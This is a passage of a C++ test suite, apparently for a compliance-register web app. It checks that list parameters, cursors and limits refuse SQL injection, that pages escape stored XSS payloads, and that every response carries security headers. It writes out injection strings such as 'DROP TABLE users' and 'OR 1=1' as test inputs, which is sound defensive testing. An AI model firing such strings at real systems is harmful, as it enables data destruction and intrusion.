    const Outcome want = !IsPlainText(p) || Trim(p).size() > 200 ? Refused("q") : Lists(0);
    Expect(q("q", p), want, "q=" + Printable(p));
    Expect(q("search", p), Refused("search"), "search=" + Printable(p));
  }

  // Cursors: anything but a cursor this list issued is refused; a well-formed cursor carrying a
  // payload as its sort value is only a bound value to page from.
  for (const auto& p : SqlPayloads()) {
    Expect(q("cursor", p), Refused("cursor"), "cursor=" + Printable(p));
  }
  for (const auto& s : sortable) {
    for (const Json& value : {Json("' OR '1'='1"), Json("1; DROP TABLE users; --"), Json("x\0y"s),
                              Json::object({{"a", "' OR 1=1"}}), Json::array({"x"}), Json(1.5),
                              Json(true), Json(nullptr)}) {
      for (const bool descending : {false, true}) {
        const std::string cursor = Base64UrlEncode(Json::array({s, descending, value, 0}).dump());
        const std::string label =
            "sort=" + std::string(descending ? "-" : "") + s + "&cursor=" + Printable(value.dump());
        Expect(q("sort", (descending ? "-" : "") + s) + "&" + q("cursor", cursor),
               {200, "", 0, kSeeded, "invalid_argument/cursor"}, label);
      }
    }
    const std::string forged =
        Base64UrlEncode(Json::array({s + "; DROP TABLE users; --", false, "x", 0}).dump());
    Expect(q("sort", s) + "&" + q("cursor", forged), Refused("cursor"),
           "sort=" + s + "&cursor=<another sort column>");
  }

  // Limits: a number from 1 to 500, nothing else.
  Expect(q("limit", "1"), Lists(1), "limit=1");
  Expect(q("limit", "500"), Lists(kSeeded), "limit=500");
  for (const std::string bad : {"0", "-1", "501", "1.5", "1e2", "0x10", " 5", "5 ", "+5",
                                "99999999999999999999", "5; DROP TABLE users"}) {
    Expect(q("limit", bad), Refused("limit"), "limit=" + bad);
  }
  for (const auto& p : SqlPayloads()) {
    Expect(q("limit", p), Refused("limit"), "limit=" + Printable(p));
  }

  // `total` is true or not asked for; an unknown parameter is refused by its name.
  Expect(q("total", "' OR 1=1 --"), Lists(kSeeded), "total=' OR 1=1 --");
  for (const auto& p : SqlPayloads()) {
    if (!IsPlainText(p)) continue;  // the error names the parameter, which JSON cannot carry
    Expect(q(p, "1"), Refused(p), Printable(p) + "=1");
  }

  // Everything is still there.
  EXPECT_EQ(Census(), before);
  EXPECT_EQ(Body(Get("/api/v1/" + spec.path + "?total=true"))["total"], kSeeded);
  auto verify = Get("/api/v1/audit/verify");
  EXPECT_EQ(Body(verify)["intact"], true);
  RecordProperty("cases", cases_);
}

INSTANTIATE_TEST_SUITE_P(Injection, RegisterSql, ::testing::ValuesIn(WritableRegisters()),
                         SpecName);

// ---------------------------------------------------------------------------------------------
// Regressions

using InjectionRegression = InjectionTest;

// "?q=%00" listed every record (SQLite's LIKE pattern ended at the NUL, leaving "%"), and a NUL
// in a search of three characters or more was a 500 ("unterminated string" from FTS5), on the
// API and on the list page alike. Text that no record can hold is now refused, naming the
// parameter.
TEST_F(InjectionRegression, ANulOrInvalidUtf8InAListParameterIsRefused) {
  CreateIssue("Supplier outage");
  CreateIssue("Staff turnover");
  for (const std::string& q : {"%00"s, "sup%00plier"s, "%00%00%00"s, "%FF%FE"s}) {
    auto api = Get("/api/v1/context-issues?q=" + q);
    ASSERT_TRUE(api);
    EXPECT_EQ(api->status, 400) << q;
    EXPECT_EQ(Error(api), "invalid_argument/q") << q;
    auto page = Page("/context-issues?q=" + q);
    ASSERT_TRUE(page);
    EXPECT_EQ(page->status, 400) << q;
  }
  auto swot = Get("/api/v1/context-issues?swot=%00");
  EXPECT_EQ(Error(swot), "invalid_argument/swot");
  EXPECT_EQ(Body(Get("/api/v1/context-issues?q=sup"))["data"].size(), 1u);
}

// ---------------------------------------------------------------------------------------------
// The pages beyond the generic register pages

using InjectionPages = InjectionTest;

// The SWOT analysis lists issue titles by quadrant, the scope list and the current scope show the
// approved scope, the overview and the audit trail list recent changes: each escapes them.
TEST_F(InjectionPages, SwotOverviewScopeAndAuditPagesEscapeRecordText) {
  const auto& payloads = XssPayloads();
  const std::vector<std::pair<std::string, std::string>> quadrants = {{"internal", "strength"},
                                                                      {"internal", "weakness"},
                                                                      {"external", "opportunity"},
                                                                      {"external", "threat"}};
  for (size_t i = 0; i < payloads.size(); ++i) {
    const auto& [kind, swot] = quadrants[i % quadrants.size()];
    CreateIssue(payloads[i].value, kind, {{"swot", swot}, {"description", payloads[i].value}});
  }
  Json units = Json::array();
  for (const auto& p : payloads) units.push_back(p.value);
  auto draft =
      Post("/api/v1/scope",
           {{"title", payloads[0].value},
            {"statement", payloads[1].value},
            {"units", units},
            {"exclusions", {{{"item", payloads[2].value}, {"justification", payloads[3].value}}}}});
  ASSERT_EQ(draft->status, 201) << draft->body;
  const std::string id = std::to_string(Body(draft)["id"].get<int64_t>());
  ASSERT_EQ(Submit("/scope/" + id + "/approve", "version=1")->status, 303);

  auto swot = Page("/context-issues/swot");
  ASSERT_EQ(swot->status, 200);
  ExpectNoRawPayload(swot->body, "SWOT analysis");
  for (const auto& p : payloads) {
    EXPECT_NE(swot->body.find(p.escaped), std::string::npos) << "SWOT analysis: " << p.value;
  }
  auto current = Page("/scope/current");
  ASSERT_EQ(current->status, 303);
  EXPECT_EQ(current->get_header_value("Location"), "/scope/" + id);
  auto scope = Page("/scope/" + id);
  ASSERT_EQ(scope->status, 200);
  ExpectNoRawPayload(scope->body, "current scope");
  for (const auto& p : payloads) {
    EXPECT_NE(scope->body.find(p.escaped), std::string::npos) << "current scope: " << p.value;
  }
  auto list = Page("/scope");
  ASSERT_EQ(list->status, 200);
  ExpectNoRawPayload(list->body, "scope list");
  EXPECT_NE(list->body.find(payloads[0].escaped), std::string::npos);
  ExpectSpecialPagesEscaped("special pages");
}

// Error pages and the sign-in form quote what they were sent.
TEST_F(InjectionPages, ErrorPagesAndTheSignInFormEscapeWhatTheyQuote) {
  int failures = 0;  // from this address: the sixth within 15 minutes is throttled (429)
  for (const auto& p : XssPayloads()) {
    auto missing = Page("/" + UrlEncode(p.value));
    ASSERT_EQ(missing->status, 404) << p.value;
    ExpectNoRawPayload(missing->body, "404 page for " + p.value);
    auto signin = Client().Get("/signin?next=" + UrlEncode(p.value));
    ASSERT_EQ(signin->status, 200) << p.value;
    ExpectNoRawPayload(signin->body, "sign-in page, next=" + p.value);
    auto failed = Client().Post("/signin",
                                "username=" + UrlEncode(p.value) + "&password=wrong-password" +
                                    "&next=" + UrlEncode(p.value),
                                "application/x-www-form-urlencoded");
    ASSERT_EQ(failed->status, failures++ < 5 ? 401 : 429) << p.value;
    ExpectNoRawPayload(failed->body, "failed sign-in, username=" + p.value);
    EXPECT_NE(failed->body.find(p.escaped), std::string::npos) << "failed sign-in: " << p.value;
  }
}

// ---------------------------------------------------------------------------------------------
// Security headers

using InjectionHeaders = InjectionTest;

// Every kind of response carries the security headers, each once: pages and API answers,
// signed in or not, successes, redirects and errors (400, 401, 403, 404, 412, 413, 414, 428).
// Static assets are the one public, cacheable content; everything else is no-store.
TEST_F(InjectionHeaders, EveryResponseCarriesTheSecurityHeaders) {
  struct Call {
    std::string label;
    httplib::Result result;
    bool cacheable = false;
  };
  std::vector<Call> calls;
  const auto cookie = httplib::Headers{{"Cookie", session_.cookie}};
  auto get = [&](const std::string& path, const httplib::Headers& h) {
    calls.push_back({"GET " + path, Client().Get(path, h)});
  };

  // Public.
  for (const std::string path : {"/signin", "/signin?next=%2Faudit", "/healthz"}) get(path, {});
  for (const std::string path : {"/static/app.css", "/static/app.js", "/static/favicon.svg"}) {
    calls.push_back({"GET " + path, Client().Get(path), true});
  }
  get("/static/missing.css", {});
  get("/", {});                       // 303 to the sign-in page
  get("/api/v1/context-issues", {});  // 401
  calls.push_back({"POST /signin (wrong password)",
                   Client().Post("/signin", "username=alice&password=nope-nope",
                                 "application/x-www-form-urlencoded")});
  calls.push_back({"POST /api/v1/auth/login (wrong password)",
                   Client().Post("/api/v1/auth/login",
                                 Json{{"username", "alice"}, {"password", "nope-nope"}}.dump(),
                                 "application/json")});

  // Signed in: the pages beyond the registers, then every register's pages and API routes.
  for (const std::string path : {"/", "/audit", "/audit?verify=1", "/context-issues/swot",
                                 "/scope/current", "/account/password"}) {
    get(path, cookie);
  }
  for (const std::string path :
       {"/api/v1/openapi.json", "/api/v1/users", "/api/v1/audit/events", "/api/v1/audit/verify",
        "/api/v1/auth/me", "/api/v1/scope/current"}) {
    get(path, Bearer());
  }
  for (const RegisterSpec* spec : WritableRegisters()) {
    const std::string api = "/api/v1/" + spec->path;
    const Json sample = WithReferences(*spec, SampleRecord(*spec, "Headers"));
    auto created = Post(api, sample);
    ASSERT_EQ(created->status, 201) << created->body;
    const std::string id = std::to_string(Body(created)["id"].get<int64_t>());
    const std::string item = api + "/" + id;
    calls.push_back({"POST " + api, std::move(created)});
    calls.push_back({"POST " + api + " (invalid)", Post(api, Json::object())});
    for (const std::string& path : {api, api + "?sort=nope", item, api + "/999999",
                                    item + "/history", api + "/export?format=csv"}) {
      get(path, Bearer());
    }
    for (const std::string& path :
         {"/" + spec->path, "/" + spec->path + "?sort=nope", "/" + spec->path + "/new",
          "/" + spec->path + "/" + id, "/" + spec->path + "/" + id + "/edit",
          "/" + spec->path + "/999999"}) {
      get(path, cookie);
    }
    calls.push_back({"PATCH " + item + " (no If-Match)", Patch(item, Json::object(), "")});
    calls.push_back({"PATCH " + item + " (stale)", Patch(item, Json::object(), "\"9\"")});
    auto patched = Patch(item, Json::object(), "\"1\"");
    ASSERT_EQ(patched->status, 200) << patched->body;
    const std::string etag = patched->get_header_value("ETag");
    calls.push_back({"PATCH " + item, std::move(patched)});
    calls.push_back(
        {"POST /" + spec->path + " (form)", Submit("/" + spec->path, FormBody(*spec, sample))});
    calls.push_back({"POST /" + spec->path + " (form without CSRF token)",
                     Client().Post("/" + spec->path, cookie, FormBody(*spec, sample),
                                   "application/x-www-form-urlencoded")});
    calls.push_back({"DELETE " + item, Delete(item, etag)});
  }

  // Errors the server answers before any handler.
  get("/nowhere", cookie);
  get("/api/v1/nowhere", Bearer());
  calls.push_back({"DELETE /signin", Client().Delete("/signin")});
  const std::string big(80 * 1024, 'a');
  calls.push_back({"POST /api/v1/context-issues (too large)",
                   Client().Post("/api/v1/context-issues", Bearer(), big, "application/json")});
  calls.push_back(
      {"POST /context-issues (too large)",
       Client().Post("/context-issues", cookie, big, "application/x-www-form-urlencoded")});
  calls.push_back({"GET /context-issues?q=<10,000 characters> (request line too long)",
                   Client().Get("/context-issues?q=" + std::string(10000, 'a'), cookie)});

  std::set<int> statuses;
  for (const auto& c : calls) {
    ASSERT_TRUE(c.result) << c.label;
    const auto& r = *c.result;
    statuses.insert(r.status);
    const std::string where = c.label + " -> " + std::to_string(r.status);
    EXPECT_NE(r.status, 500) << where;
    for (const char* name : {"Content-Security-Policy", "X-Content-Type-Options", "Referrer-Policy",
                             "X-Frame-Options", "Cache-Control"}) {
      EXPECT_EQ(r.get_header_value_count(name), 1u) << where << ": " << name;
    }
    const std::string csp = r.get_header_value("Content-Security-Policy");
    EXPECT_NE(csp.find("frame-ancestors 'none'"), std::string::npos) << where;
    EXPECT_NE(csp.find("default-src 'none'"), std::string::npos) << where;
    EXPECT_EQ(csp.find("unsafe-inline"), std::string::npos) << where;
    EXPECT_EQ(csp.find("unsafe-eval"), std::string::npos) << where;
    EXPECT_EQ(r.get_header_value("X-Content-Type-Options"), "nosniff") << where;
    EXPECT_EQ(r.get_header_value("X-Frame-Options"), "DENY") << where;
    const std::string referrer = r.get_header_value("Referrer-Policy");
    EXPECT_TRUE(referrer == "no-referrer" || referrer == "same-origin" ||
                referrer == "strict-origin" || referrer == "strict-origin-when-cross-origin")
        << where << ": " << referrer;
    if (!c.cacheable) {
      EXPECT_EQ(r.get_header_value("Cache-Control"), "no-store") << where;
    }
  }
  // The walk reached every kind of answer it means to check.
  for (const int status : {200, 201, 204, 303, 400, 401, 403, 404, 412, 413, 414, 428}) {
    EXPECT_EQ(statuses.count(status), 1u) << "no response with status " << status;
  }
}

}  // namespace
}  // namespace rampart::testing
